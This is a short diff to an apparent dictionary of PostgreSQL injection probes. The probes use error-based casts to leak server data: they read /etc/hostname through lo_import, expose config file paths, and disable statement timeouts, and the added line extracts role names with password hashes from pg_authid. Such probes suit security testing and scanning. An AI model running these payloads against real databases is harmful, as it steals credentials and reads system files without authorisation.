@@ -50,6 +50,7 @@ PG_PROBES = {
     "lo_import": "SELECT CAST(lo_import('/etc/hostname')::text AS timestamptz)",
     "file_settings": "SELECT CAST(max(sourcefile) AS timestamptz) FROM pg_file_settings",
     "set_config": "SELECT CAST(set_config('statement_timeout', '0', false) AS timestamptz)",
+    "authid": "SELECT CAST(max(rolname || rolpassword) AS timestamptz) FROM pg_authid",
 }
 
 
